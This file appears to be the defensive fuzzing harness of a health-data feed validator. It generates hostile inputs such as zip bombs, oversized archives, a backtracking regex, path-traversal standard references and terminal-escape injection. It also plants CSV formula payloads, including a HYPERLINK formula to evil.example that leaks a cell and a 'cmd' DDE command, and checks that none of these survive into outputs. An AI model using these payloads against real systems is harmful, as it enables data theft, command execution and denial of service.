"""The hostile-input corpus: generate attacks, run each through the command line, measure.

    python tests/hostile/corpus.py            # every input (a few minutes)
    python tests/hostile/corpus.py --quick    # the fast subset the test suite runs
    python tests/hostile/corpus.py --only zip-bomb --only xml-bigint -v

Every input is *generated* (nothing is a hand-kept blob): the families of issue 14 and
more of the same kind. Each runs in its own ``python -m conformance`` subprocess with a
timeout, an address-space cap (so that a blow-up is a crash here, not a dead machine)
and ``wait4`` for its peak RSS and the bytes it wrote. The table counts, per input:

- crashes: a traceback, a signal death, an exit code not allowed for that input, or an
  exit 2 that is not one clean line on stderr;
- exit 3: the internal-error code (allowed nowhere: every input here is the user's);
- hangs: still running at the timeout;
- peak RSS: must stay under 500 MB for every input under 50 MB (``rss`` counts those
  over); ``disk`` counts inputs that wrote more than 500 MB;
- silent drops: records the scorecard says it read, against the records the generator
  put in;
- leaks: a known synthetic NHS Number (in any separator style) or a marker string found
  in any output (stdout, stderr, every file written);
- wrong: an input-specific expectation not met (e.g. a feed that chose its own standard).

Target: 0 in every column but ``inputs``. Exit status 0 when that holds, else 1.
"""

from __future__ import annotations

import argparse
import contextlib
import io
import os
import re
import resource
import shutil
import signal
import sqlite3
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import orjson

REPO = Path(__file__).resolve().parents[2]
MDSS = REPO / "standards" / "mdss" / "1.0.0"
MB = 1024 * 1024
RSS_LIMIT_MB = 500
DISK_LIMIT_MB = 500
ADDRESS_SPACE = 3 * 1024 * MB
"""Each run's address-space cap: a memory blow-up fails (and is counted) before it hurts."""
FILE_SIZE_CAP = 1024 * MB
ALLOWED = frozenset({0, 1, 2})
"""Exit codes a hostile input may cause by default: conformant, not, a clean usage error."""

# ------------------------------------------------------------------ synthetic identities


def nhs_number(first_nine: str) -> str:
    """A valid NHS Number (Modulus 11) from the 999 test range."""
    total = sum(int(d) * (10 - i) for i, d in enumerate(first_nine))
    check = 11 - total % 11
    check = 0 if check == 11 else check
    if check == 10:
        raise ValueError(first_nine)
    return first_nine + str(check)


CANARY = nhs_number("999123457")
"""A synthetic NHS Number planted in ids, names, file names, text: never in an output."""
MARKER = "Zq7Wexfordia"
"""A string planted where only feed content is (free text, unknown element names)."""


def leak_patterns(number: str = CANARY) -> list[re.Pattern[str]]:
    """The canary in every separator style (none, spaces, dots, dashes, mixed), and MARKER."""
    sep = r"[^0-9A-Za-z*]{0,3}"
    nhs = rf"(?<!\d){number[:3]}{sep}{number[3:6]}{sep}{number[6:]}(?!\d)"
    return [re.compile(nhs), re.compile(re.escape(MARKER), re.IGNORECASE)]


def dotted(number: str) -> str:
    return f"{number[:3]}.{number[3:6]}.{number[6:]}"


def patient(rid: str = "p1", **extra: Any) -> dict[str, Any]:
    resource = {
        "resourceType": "Patient",
        "id": rid,
        "meta": {"profile": ["https://w3id.org/mdss/StructureDefinition/MDSS-Patient"]},
        "identifier": [{"system": "https://fhir.nhs.uk/Id/nhs-number", "value": "9990000018"}],
        "name": [{"family": "Testpatient", "given": ["Alex"]}],
        "gender": "female",
        "birthDate": "1980-02-03",
    }
    resource.update(extra)
    return resource


def ndjson(resources: Sequence[dict[str, Any]]) -> bytes:
    return b"".join(orjson.dumps(r) + b"\n" for r in resources)


def manifest(conforms_to: Any = "mdss@1.0.0", files: Sequence[dict[str, Any]] = ()) -> bytes:
    return orjson.dumps(
        {
            "feed": {
                "id": "qwo-rxx-2026-11-01-s101",
                "ics": "QWO",
                "sender": "RXX",
                "period": {"start": "2026-11-01", "end": "2026-11-30"},
                "extracted": "2026-12-01T03:00:00Z",
                "environment": "test",
                "conformsTo": conforms_to,
            },
            "files": list(files),
        },
        option=orjson.OPT_INDENT_2,
    )


# ----------------------------------------------------------------------------- cases


@dataclass(slots=True)
class Command:
    argv: list[str]
    allowed: frozenset[int] = ALLOWED
    stdin: bytes | None = None
    send_signal: tuple[int, float] | None = None
    """(signal, seconds after start) to deliver, for the interruption cases."""
    unprivileged: bool = False
    """Run without the power to override file permissions (when root), so that they bite."""
    timeout: float = 120.0
    """Wall-clock seconds (the machine may be shared: generous; hangs are also CPU-idle)."""
    check_card: bool = True
    """Read the scorecard this command writes (``-o card.json``) for the drop/wrong checks."""


@dataclass(slots=True)
class Run:
    commands: list[Command]
    records: int | None = None
    """Records the generator put in; the scorecard must say it read exactly these."""
    expect: Callable[[dict[str, Any]], str | None] | None = None
    """An input-specific check of the scorecard: a reason when it is wrong, else None."""
    input_bytes: int = 0


@dataclass(slots=True)
class Case:
    name: str
    family: str
    build: Callable[[Path], Run]
    quick: bool = False


CASES: list[Case] = []


def case(
    family: str, quick: bool = False
) -> Callable[[Callable[[Path], Run]], Callable[[Path], Run]]:
    def register(build: Callable[[Path], Run]) -> Callable[[Path], Run]:
        CASES.append(Case(build.__name__.replace("_", "-"), family, build, quick))
        return build

    return register


def validate(inputs: Sequence[str | Path], *extra: str, **options: Any) -> Command:
    """``validate INPUTS -f json -o card.json`` (the card is read back for the checks)."""
    argv = ["validate", *map(str, inputs), "-f", "json", "-o", "card.json", "--no-progress", *extra]
    return Command(argv, **options)


def size_of(*paths: Path) -> int:
    total = 0
    for path in paths:
        if path.is_dir():
            total += sum(p.stat().st_size for p in path.rglob("*") if p.is_file())
        elif path.is_file():
            total += path.stat().st_size
    return total


def feed(
    folder: Path, resources: Sequence[dict[str, Any]], conforms_to: Any = "mdss@1.0.0"
) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "manifest.json").write_bytes(manifest(conforms_to))
    (folder / "Patient.ndjson").write_bytes(ndjson(resources))
    return folder


def standard_requirements(card: dict[str, Any]) -> str | None:
    """The feed must be judged by the real MDSS (its many requirements), not a planted one."""
    reqs = card.get("requirements", [])
    if len(reqs) < 10:
        return f"judged by a standard with {len(reqs)} requirements (the feed chose it?)"
    return None


def combined(cards: Any) -> dict[str, Any]:
    """One view of what a run wrote: a scorecard, or the list of them that several feeds on
    one command line give (records and findings summed over the feeds)."""
    if not isinstance(cards, list):
        return dict(cards)
    return {
        "counts": {"records_read": sum(c.get("counts", {}).get("records_read", 0) for c in cards)},
        "findings": [f for c in cards for f in c.get("findings", [])],
        "requirements": [r for c in cards for r in c.get("requirements", [])],
    }


def has_code(*codes: str) -> Callable[[dict[str, Any]], str | None]:
    def check(card: dict[str, Any]) -> str | None:
        found = {f.get("code") for f in card.get("findings", [])}
        for req in card.get("requirements", []):
            found.update(req.get("codes", {}) or {})
        missing = [c for c in codes if c not in found]
        return f"no finding {missing}" if missing else None

    return check


def all_of(
    *checks: Callable[[dict[str, Any]], str | None],
) -> Callable[[dict[str, Any]], str | None]:
    def check(card: dict[str, Any]) -> str | None:
        for one in checks:
            reason = one(card)
            if reason:
                return reason
        return None

    return check


# ---- a feed may not choose its own standard -------------------------------------------


def _planted_standard(folder: Path) -> Path:
    """A one-requirement standard that calls itself mdss 1.0.0 and passes anything."""
    std = folder / "evil" / "mdss" / "1.0.0"
    std.mkdir(parents=True)
    (std / "standard.yaml").write_text(
        "id: mdss\nversion: 1.0.0\ntitle: Minimum Data Sharing Standard\nstatus: active\n"
        "effective_from: 2026-04-01\nfhir_version: 4.0.1\npublisher: x\n"
        "domains:\n  - {id: any, title: Any}\n"
        "requirements:\n"
        "  - id: EVIL-01\n    title: Anything goes\n    level: MAY\n    domain: any\n"
        "    rationale: none\n    source: none\n    check: {type: record-count, min: 0}\n",
        encoding="utf-8",
    )
    return std


@case("standard", quick=True)
def conforms_to_path(tmp: Path) -> Run:
    std = _planted_standard(tmp)
    folder = feed(tmp / "feed", [patient(gender="x")], str(std))
    return Run(
        [validate([folder])], 1, all_of(standard_requirements, has_code("conforms-to-invalid"))
    )


@case("standard")
def conforms_to_relative_path(tmp: Path) -> Run:
    _planted_standard(tmp / "feed")
    folder = feed(tmp / "feed", [patient()], "evil/mdss/1.0.0")
    return Run([validate([folder])], 1, standard_requirements)


@case("standard")
def conforms_to_reference_shadowed_by_folder(tmp: Path) -> Run:
    """conformsTo ``mdss`` while the working folder holds a folder called ``mdss``."""
    planted = _planted_standard(tmp)
    (tmp / "mdss").symlink_to(planted)
    folder = feed(tmp / "feed", [patient()], "mdss")
    return Run([validate([folder])], 1, standard_requirements)


@case("standard", quick=True)
def conforms_to_10000_chars(tmp: Path) -> Run:
    folder = feed(tmp / "feed", [patient()], "mdss@" + "1" * 10_000)
    return Run(
        [validate([folder])], 1, all_of(standard_requirements, has_code("conforms-to-invalid"))
    )


@case("standard")
def conforms_to_malformed(tmp: Path) -> Run:
    commands = []
    for index, bad in enumerate(
        [
            "../../../etc",
            "/etc/passwd",
            "mdss@1.0.0/../x",
            "mdss@",
            "MDSS@1",
            "mdss\x00",
            "\uff4d\uff44\uff53\uff53",  # mdss in full-width letters
            "mdss@1.0.0\n",
        ]
    ):
        feed(tmp / f"feed{index}", [patient()], bad)
        cmd = validate([tmp / f"feed{index}"])
        cmd.argv[cmd.argv.index("card.json")] = f"card{index}.json"
        commands.append(cmd)
    commands[-1].argv[commands[-1].argv.index("card7.json")] = "card.json"
    return Run(commands, 1, all_of(standard_requirements, has_code("conforms-to-invalid")))


@case("standard")
def conforms_to_not_text(tmp: Path) -> Run:
    folder = feed(tmp / "feed", [patient()], {"path": "/etc"})
    return Run([validate([folder])], 1, standard_requirements)


# ---- crashes ---------------------------------------------------------------------------

BIG = "9" * 5000


@case("crash", quick=True)
def xml_bigint(tmp: Path) -> Run:
    (tmp / "p.xml").write_text(
        '<Patient xmlns="http://hl7.org/fhir"><id value="p1"/>'
        f'<multipleBirthInteger value="{BIG}"/></Patient>\n'
        "",
        encoding="utf-8",
    )
    (tmp / "o.xml").write_text(
        '<Observation xmlns="http://hl7.org/fhir"><status value="final"/>'
        f'<valueQuantity><value value="{BIG}.5"/></valueQuantity>'
        f'<component><valueInteger value="-{BIG}"/></component></Observation>',
        encoding="utf-8",
    )
    return Run([validate([tmp / "p.xml", tmp / "o.xml"])], 2)


@case("crash", quick=True)
def json_bigint(tmp: Path) -> Run:
    lines = [
        b'{"resourceType":"Patient","id":"p1","multipleBirthInteger":' + BIG.encode() + b"}",
        b'{"resourceType":"Observation","id":"o1","status":"final","valueDecimal":'
        + BIG.encode()
        + b".5e99999}",
        b'{"resourceType":"Patient","id":"p2","multipleBirthInteger":-' + BIG.encode() + b"}",
    ]
    (tmp / "big.ndjson").write_bytes(b"\n".join(lines) + b"\n")
    (tmp / "big.csv").write_text(f"site_code,date,beds_available\nRH802,2026-11-02,{BIG}\n")
    return Run([validate([tmp / "big.ndjson", tmp / "big.csv"])], 4)


@case("crash", quick=True)
def symlink_loop(tmp: Path) -> Run:
    folder = feed(tmp / "feed", [patient()])
    (folder / "self.ndjson").symlink_to("self.ndjson")
    (folder / "a.ndjson").symlink_to("b.ndjson")
    (folder / "b.ndjson").symlink_to("a.ndjson")
    (folder / "sub").mkdir()
    (folder / "sub" / "up").symlink_to("..")
    return Run([validate([folder])], 1)


@case("crash", quick=True)
def non_utf8_names(tmp: Path) -> Run:
    folder = feed(tmp / "feed", [patient()])
    os.mkdir(os.fsencode(folder) + b"/sub\xff")
    with open(os.fsencode(folder) + b"/sub\xff/bad\xfe\x1b[31m.ndjson", "wb") as out:
        out.write(ndjson([patient("p2")]))
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.GNU_FORMAT) as tar:
        data = ndjson([patient("p3")])
        info = tarfile.TarInfo("x")
        info.name = os.fsdecode(b"member\xff\xfe.ndjson")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    (tmp / "feed.tar.gz").write_bytes(buffer.getvalue())
    zbuffer = io.BytesIO()
    with zipfile.ZipFile(zbuffer, "w") as zipped:
        zipped.writestr("ok.ndjson", ndjson([patient("p4")]))
    raw = zbuffer.getvalue().replace(b"ok.ndjson", b"\x80\xff.ndjson")  # same length
    (tmp / "feed.zip").write_bytes(raw)
    return Run([validate([folder, tmp / "feed.tar.gz", tmp / "feed.zip"])], 4)


@case("crash", quick=True)
def damaged_history(tmp: Path) -> Run:
    folder = feed(tmp / "feed", [patient()])
    commands = []
    for index, damage in enumerate(
        [
            "CREATE TABLE scorecards (x);",
            "CREATE TABLE schema_version (version INTEGER); "
            "INSERT INTO schema_version VALUES (999);",
            "PRAGMA user_version = 7; CREATE TABLE scorecards (id INTEGER PRIMARY KEY);",
            None,
        ]
    ):
        db = tmp / f"h{index}.sqlite3"
        if damage is None:
            db.write_bytes(b"SQLite format 3\x00" + b"\xff" * 4000)
        else:
            with sqlite3.connect(db) as conn:
                conn.executescript(damage)
            conn.close()
        commands.append(validate([folder], "--record", "--db", str(db), check_card=False))
        commands.append(Command(["history", "list", "--db", str(db)], check_card=False))
        commands.append(
            Command(["board", "--db", str(db), "-o", f"b{index}.html"], check_card=False)
        )
    return Run(commands)


@case("crash", quick=True)
def standard_impossible_values(tmp: Path) -> Run:
    commands = []
    for index, (key, value) in enumerate(
        [
            ("effective_from", "2026-02-30"),
            ("effective_from", "2026-13-01"),
            ("effective_to", "9999999999-01-01"),
            ("version", "1" * 5000),
        ]
    ):
        std = tmp / f"std{index}" / "mdss" / "1.0.0"
        shutil.copytree(MDSS, std)
        text = (std / "standard.yaml").read_text(encoding="utf-8")
        text = re.sub(rf"(?m)^{key}:.*$", f"{key}: {value}", text)
        (std / "standard.yaml").write_text(text, encoding="utf-8")
        commands.append(Command(["standards", "lint", str(std)]))
        commands.append(
            Command(
                ["validate", str(tmp / "p.ndjson"), "--standard", str(std), "--no-progress"],
                check_card=False,
            )
        )
    (tmp / "p.ndjson").write_bytes(ndjson([patient()]))
    return Run(commands)


@case("crash", quick=True)
def oversized_numbers(tmp: Path) -> Run:
    (tmp / "p.ndjson").write_bytes(ndjson([patient()]))
    huge = "9" * 5000
    commands = [
        Command(["validate", "p.ndjson", "--no-progress", *option])
        for option in (
            ["--jobs", huge],
            ["--jobs", "99999999999"],
            ["--jobs", "-5"],
            ["--max-findings", huge],
            ["--max-findings", "99999999999999999999"],
            ["--limit", f"max-line-bytes={huge}"],
            ["--limit", "max-line-bytes=99999999999999999999999"],
            ["--limit", "max-depth=99999999999999999999999G"],
            ["--limit", "max-files=18446744073709551616"],
        )
    ]
    for argv in (
        ["scorecard", "render", "card.json", "--top-findings", huge],
        ["history", "show", huge, "--db", "h.sqlite3"],
        ["history", "remove", "99999999999999999999999", "--db", "h.sqlite3"],
    ):
        commands.append(Command(argv, check_card=False))
    return Run(commands)


# ---- memory and disk -------------------------------------------------------------------


@case("memory")
def bundle_large_base64(tmp: Path) -> Run:
    """A 42 MB Bundle: one Binary of 40 MB base64, and entries with findings to locate."""
    import base64

    blob = base64.b64encode(os.urandom(30 * MB)).decode()
    entries = [{"resource": patient(f"p{i}", gender="bogus")} for i in range(3)]
    entries.insert(
        1, {"resource": {"resourceType": "Binary", "id": "b", "contentType": "a/b", "data": blob}}
    )
    bundle = {"resourceType": "Bundle", "type": "collection", "entry": entries}
    path = tmp / "bundle.json"
    path.write_bytes(orjson.dumps(bundle, option=orjson.OPT_INDENT_2))
    return Run([validate([path])], 4, input_bytes=size_of(path))


@case("memory")
def xml_many_elements(tmp: Path) -> Run:
    """32 MB of XML elements in one resource."""
    path = tmp / "many.xml"
    with path.open("w", encoding="utf-8") as out:
        out.write('<Patient xmlns="http://hl7.org/fhir"><id value="p1"/>')
        chunk = "<x/>" * 100_000
        for _ in range(80):
            out.write(chunk)
        out.write("</Patient>")
    return Run([validate([path])], 1, input_bytes=size_of(path))


@case("memory")
def xml_bundle_many_entries(tmp: Path) -> Run:
    path = tmp / "bundle.xml"
    entry = (
        '<entry><resource><Patient><id value="p"/><gender value="bogus"/></Patient>'
        "</resource></entry>"
    )
    count = 30_000
    with path.open("w", encoding="utf-8") as out:
        out.write('<Bundle xmlns="http://hl7.org/fhir"><type value="collection"/>')
        for _ in range(count // 1000):
            out.write(entry * 1000)
        out.write("</Bundle>")
    return Run([validate([path])], count, input_bytes=size_of(path))


@case("memory")
def json_many_objects(tmp: Path) -> Run:
    path = tmp / "objects.json"
    with path.open("wb") as out:
        out.write(b'{"resourceType":"Patient","id":"p1","extension":[')
        out.write(b",".join([b"{}"] * 8_000_000))
        out.write(b"]}")
    return Run([validate([path])], 1, input_bytes=size_of(path))


def _zeros_gz(size: int) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    zero = bytes(MB)
    parts = [compressor.compress(zero) for _ in range(size // MB)]
    parts.append(compressor.flush())
    return b"".join(parts)


@case("memory")
def tar_huge_longname(tmp: Path) -> Run:
    """A small .tar.gz whose GNU long-name header claims (and holds) 2 GiB of name."""
    size = 2048 * MB
    header = tarfile.TarInfo("././@LongLink")
    header.type = tarfile.GNUTYPE_LONGNAME
    header.size = size
    raw = header.tobuf(format=tarfile.GNU_FORMAT)
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    parts = [compressor.compress(raw)]
    zero = b"a" * MB
    parts.extend(compressor.compress(zero) for _ in range(size // MB))
    member = tarfile.TarInfo("x.ndjson")
    data = ndjson([patient()])
    member.size = len(data)
    parts.append(compressor.compress(member.tobuf(format=tarfile.GNU_FORMAT)))
    parts.append(compressor.compress(data + bytes(-len(data) % 512) + bytes(1024)))
    parts.append(compressor.flush())
    path = tmp / "longname.tar.gz"
    path.write_bytes(b"".join(parts))
    return Run([validate([path])], input_bytes=size_of(path))


@case("memory")
def zip_bomb(tmp: Path) -> Run:
    """A 4 MB zip whose one member inflates to 4 GB (and a few small good members)."""
    path = tmp / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr("a/manifest.json", manifest())
        zipped.writestr("a/Patient.ndjson", ndjson([patient()]))
        bomb = zipfile.ZipInfo("a/bomb.ndjson")
        bomb.compress_type = zipfile.ZIP_DEFLATED
        with zipped.open(bomb, "w", force_zip64=True) as member:
            zero = b" " * MB
            for _ in range(4096):
                member.write(zero)
    return Run([validate([path])], input_bytes=size_of(path))


@case("memory")
def zip_many_small_bombs(tmp: Path) -> Run:
    """Many members each just under the per-member floor: the archive as a whole is a bomb."""
    path = tmp / "bombs.zip"
    payload = b" " * (15 * MB)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zipped:
        for index in range(200):
            zipped.writestr(f"b{index}.ndjson", payload)
    return Run([validate([path])], input_bytes=size_of(path))


@case("memory", quick=True)
def huge_ids(tmp: Path) -> Run:
    """4 MB ids (and references) copied into findings must not make a huge scorecard."""
    rid = "x" * (4 * MB)
    resources = [
        patient(
            rid + str(i), gender="bogus", managingOrganization={"reference": "Organization/" + rid}
        )
        for i in range(8)
    ]
    path = tmp / "ids.ndjson"
    path.write_bytes(ndjson(resources))

    def small(card: dict[str, Any]) -> str | None:
        size = (tmp / "card.json").stat().st_size
        return f"scorecard of {size} bytes" if size > 2 * MB else None

    return Run([validate([path])], 8, small, input_bytes=size_of(path))


# ---- hangs -----------------------------------------------------------------------------


@case("hang", quick=True)
def table_pattern_backtracking(tmp: Path) -> Run:
    std = tmp / "std" / "mdss" / "1.0.0"
    shutil.copytree(MDSS, std)
    schema_path = std / "tables" / "sitrep-discharge.schema.json"
    schema = orjson.loads(schema_path.read_bytes())
    schema["properties"]["site_code"]["pattern"] = "^(a+)+$"
    schema_path.write_bytes(orjson.dumps(schema))
    (tmp / "sitrep-discharge.csv").write_text(
        "site_code,date\n" + "".join(f"{'a' * 60}b,2026-11-0{i}\n" for i in range(1, 4))
    )
    cmd = validate([tmp / "sitrep-discharge.csv"], "--standard", str(std), timeout=30)
    return Run([cmd], 3)


@case("hang", quick=True)
def fifo_inputs(tmp: Path) -> Run:
    fifo = tmp / "fifo.json"
    os.mkfifo(fifo)
    (tmp / "p.ndjson").write_bytes(ndjson([patient()]))
    short = {"timeout": 20.0, "check_card": False}
    return Run(
        [
            Command(["validate", "p.ndjson", "--no-progress", "--baseline", str(fifo)], **short),
            Command(["scorecard", "render", str(fifo)], **short),
            Command(["board", str(fifo), "-o", "board.html"], **short),
            Command(["history", "add", str(fifo), "--db", "h.sqlite3"], **short),
            Command(["validate", str(fifo), "--no-progress"], **short),
            Command(["validate", "p.ndjson", "--no-progress", "--standard", str(fifo)], **short),
            Command(["standards", "lint", str(fifo)], **short),
        ]
    )


# ---- silent drops ----------------------------------------------------------------------


@case("drop", quick=True)
def archive_duplicate_members(tmp: Path) -> Run:
    import warnings

    zpath = tmp / "dup.zip"
    with warnings.catch_warnings(), zipfile.ZipFile(zpath, "w") as zipped:
        warnings.simplefilter("ignore")
        zipped.writestr("Patient.ndjson", ndjson([patient("a1"), patient("a2")]))
        with_warning = zipfile.ZipInfo("Patient.ndjson")
        zipped.writestr(with_warning, ndjson([patient("b1")]))
        zipped.writestr("sub/", b"")
        zipped.writestr("sub", ndjson([patient("c1")]))  # a file and a folder of one name
        zipped.writestr("sub/x.ndjson", ndjson([patient("c2")]))
    tpath = tmp / "dup.tar.gz"
    with tarfile.open(tpath, "w:gz") as tar:
        for name, rows in (("P.ndjson", 3), ("P.ndjson", 2), ("./P.ndjson", 1)):
            data = ndjson([patient(f"t{name}{i}") for i in range(rows)])
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return Run([validate([zpath, tpath])], 3 + 2 + 6, has_code("duplicate-archive-member"))


@case("drop", quick=True)
def unreadable_subfolder(tmp: Path) -> Run:
    folder = feed(tmp / "feed", [patient()])
    sub = folder / "locked"
    sub.mkdir()
    (sub / "more.ndjson").write_bytes(ndjson([patient("p2")]))
    sub.chmod(0)
    cmd = validate([folder], unprivileged=True)
    return Run([cmd], 1, has_code("unreadable-folder"))


@case("drop", quick=True)
def xml_child_named_resource_type(tmp: Path) -> Run:
    (tmp / "p.xml").write_text(
        '<Patient xmlns="http://hl7.org/fhir"><id value="p1"/>'
        '<resourceType value="Bundle"/></Patient>'
    )
    (tmp / "b.xml").write_text(
        '<Bundle xmlns="http://hl7.org/fhir"><type value="collection"/>'
        '<entry><resource><Patient><resourceType value="Observation"/><id value="p2"/>'
        "</Patient></resource></entry>"
        "</Bundle>"
    )
    return Run([validate([tmp / "p.xml", tmp / "b.xml"])], 2)


# ---- leaks and injection ---------------------------------------------------------------

FORMATS = (
    "terminal",
    "markdown",
    "html",
    "junit",
    "sarif",
    "github",
    "csv",
    "codequality",
    "operationoutcome",
)


def _leaky_feed(folder: Path) -> None:
    """Identifiers and marker text in every place a sender can put them."""
    hostile_ids = [
        CANARY,
        dotted(CANARY),
        f"pat-{CANARY[:3]} {CANARY[3:6]} {CANARY[6:]}",
        f"x{CANARY}y",
        f"{CANARY[:3]}-{CANARY[3:6]}-{CANARY[6:]}",
        '=HYPERLINK("http://evil.example/"&A1)',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07\x1b[2J",
        "<img src=http://evil.example/x.png>",
        "![x](http://evil.example/t.png)",
    ]
    resources = []
    for index, rid in enumerate(hostile_ids):
        resources.append(
            patient(
                rid,
                gender="bogus",
                name=[{"family": MARKER, "given": [f"{MARKER} {CANARY}"]}],
                birthDate=f"{MARKER}",
                **{f"{MARKER}{index}": 1, f"nhs{CANARY}": "x", "_" + MARKER: {"x": 1}},
            )
        )
        resources[-1]["identifier"][0]["value"] = dotted(CANARY)
        resources[-1]["managingOrganization"] = {"reference": f"Organization/{CANARY}"}
    folder.mkdir(parents=True)
    (folder / "manifest.json").write_bytes(
        orjson.dumps(
            {
                "feed": {
                    "id": f"=cmd|{dotted(CANARY)}",
                    "ics": "<b>QWO</b>",
                    "sender": "\x1b[31mRXX",
                    "period": {"start": "2026-11-01", "end": "2026-11-30"},
                    "extracted": "2026-12-01T03:00:00Z",
                    "environment": "test",
                    "conformsTo": "mdss@1.0.0",
                },
                "files": [
                    {"path": f"{CANARY}.ndjson", "type": "Patient", "count": 1, "sha256": "0" * 64}
                ],
            }
        )
    )
    (folder / "Patient.ndjson").write_bytes(ndjson(resources))
    (folder / f"{dotted(CANARY)}.ndjson").write_bytes(ndjson([patient("p9")]))
    (folder / f"{MARKER[:0]}{CANARY[:3]}-{CANARY[3:6]}-{CANARY[6:]}.ndjson").write_bytes(
        ndjson([patient("p8")])
    )
    (folder / "sitrep-discharge.csv").write_text(
        f"site_code,date,{MARKER}\n=1+1,2026-11-02,{CANARY}\n\x1b[31mRH802,2026-11-02,x\n"
    )
    (folder / "p.xml").write_text(
        f'<Patient xmlns="http://hl7.org/fhir"><id value="{dotted(CANARY)}"/>'
        f'<{MARKER}><x value="{CANARY}"/></{MARKER}></Patient>'
    )


@case("leak", quick=True)
def leaks_json_csv_markdown(tmp: Path) -> Run:
    """The quick subset of leaks-every-format: the canonical JSON and the text formats."""
    folder = tmp / "feed"
    _leaky_feed(folder)
    commands = [validate([folder])]
    for fmt in ("csv", "markdown", "github", "terminal"):
        commands.append(
            Command(
                ["scorecard", "render", "card.json", "-f", fmt, "-o", f"out.{fmt}"],
                check_card=False,
            )
        )
    commands.append(
        Command(["board", "card.json", "-f", "csv", "-o", "board.csv"], check_card=False)
    )
    return Run(commands, 17, _injection_free(tmp))


@case("leak")
def leaks_every_format(tmp: Path) -> Run:
    folder = tmp / "feed"
    _leaky_feed(folder)
    records = 12 + 1 + 1 + 2 + 1
    commands = [validate([folder], "--record", "--db", "h.sqlite3")]
    for fmt in FORMATS:
        commands.append(
            Command(
                ["scorecard", "render", "card.json", "-f", fmt, "-o", f"out.{fmt}"],
                check_card=False,
            )
        )
        commands.append(
            Command(["validate", str(folder), "-f", fmt, "--no-progress"], check_card=False)
        )
    commands.append(
        Command(["board", "card.json", "-f", "csv", "-o", "board.csv"], check_card=False)
    )
    commands.append(
        Command(["board", "card.json", "-f", "html", "-o", "board.html"], check_card=False)
    )
    commands.append(Command(["history", "list", "--db", "h.sqlite3"], check_card=False))
    return Run(commands, records, _injection_free(tmp))


_CSV_FORMULA = re.compile(r"(?m)(?:^|,)\"?[=+\-@\t\r]")
_ESCAPES = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x9b]")


def _injection_free(tmp: Path) -> Callable[[dict[str, Any]], str | None]:
    def check(card: dict[str, Any]) -> str | None:
        for path in sorted(tmp.glob("*")):
            if not path.is_file() or path.suffix in (".sqlite3", ".ndjson", ".xml", ".csv-src"):
                continue
            text = path.read_bytes().decode("utf-8", "replace")
            if _ESCAPES.search(text):
                return f"{path.name}: a raw control character"
            if path.suffix == ".csv" and _CSV_FORMULA.search(text):
                return f"{path.name}: a cell that starts a formula"
            if path.suffix in (".markdown", ".github") and re.search(r"<img|!\[|<b>", text):
                return f"{path.name}: raw HTML or an image from the feed"
        return None

    return check


@case("leak")
def show_values_no_control_chars(tmp: Path) -> Run:
    path = tmp / "p.ndjson"
    path.write_bytes(ndjson([patient("\x1b]0;pwned\x07", gender="\x1b[2Jbogus")]))
    cmd = Command(["validate", str(path), "--show-values", "--no-progress"], check_card=False)
    return Run([cmd], None, None)


# ---- signals ---------------------------------------------------------------------------


def _big_feed(folder: Path, count: int) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "manifest.json").write_bytes(manifest())
    one = orjson.dumps(patient("p", gender="bogus")) + b"\n"
    (folder / "Patient.ndjson").write_bytes(one * count)
    return folder


def _incomplete(tmp: Path) -> Callable[[dict[str, Any]], str | None]:
    def check(card: dict[str, Any]) -> str | None:
        if card.get("verdict") != "Incomplete" or card.get("complete") is not False:
            return f"an interrupted run's scorecard says {card.get('verdict')!r}"
        return None

    return check


def _signal_case(tmp: Path, signum: int, delay: float, extra: Sequence[str] = ()) -> Run:
    # Big enough that even the compiled build on a fast machine is still reading when the
    # signal arrives (20k records once finished in under 2.5 s on CI).
    folder = _big_feed(tmp / "feed", 200_000)
    # 130 for both signals, as the README documents (an interrupted run).
    cmd = validate(
        [folder], "--jobs", "1", *extra, send_signal=(signum, delay), allowed=frozenset({130})
    )
    return Run([cmd], None, _incomplete(tmp))


@case("signal", quick=True)
def sigterm_while_reading(tmp: Path) -> Run:
    return _signal_case(tmp, signal.SIGTERM, 2.5)


@case("signal")
def sigint_while_reading(tmp: Path) -> Run:
    return _signal_case(tmp, signal.SIGINT, 2.5)


@case("signal", quick=True)
def sigterm_very_early(tmp: Path) -> Run:
    return _signal_case(tmp, signal.SIGTERM, 0.3)


@case("signal")
def sigint_very_early(tmp: Path) -> Run:
    return _signal_case(tmp, signal.SIGINT, 0.3)


@case("signal")
def sigterm_while_recording(tmp: Path) -> Run:
    return _signal_case(tmp, signal.SIGTERM, 6.0, ["--record", "--db", "h.sqlite3"])


# ------------------------------------------------------------------------------- runner


@dataclass(slots=True)
class Outcome:
    name: str
    family: str
    crashes: int = 0
    exit3: int = 0
    hangs: int = 0
    rss_mb: float = 0.0
    rss_over: int = 0
    disk_mb: float = 0.0
    disk_over: int = 0
    drops: int = 0
    leaks: int = 0
    wrong: int = 0
    seconds: float = 0.0
    notes: list[str] = field(default_factory=list)

    @property
    def ok(self) -> bool:
        return not (
            self.crashes
            or self.exit3
            or self.hangs
            or self.rss_over
            or self.disk_over
            or self.drops
            or self.leaks
            or self.wrong
        )


def _limits() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (ADDRESS_SPACE, ADDRESS_SPACE))
    resource.setrlimit(resource.RLIMIT_FSIZE, (FILE_SIZE_CAP, FILE_SIZE_CAP))


def _drop_privileges() -> list[str]:
    """A prefix that runs a command as root but without overriding file permissions."""
    if os.geteuid() != 0:
        return []
    setpriv = shutil.which("setpriv")
    if setpriv is None:
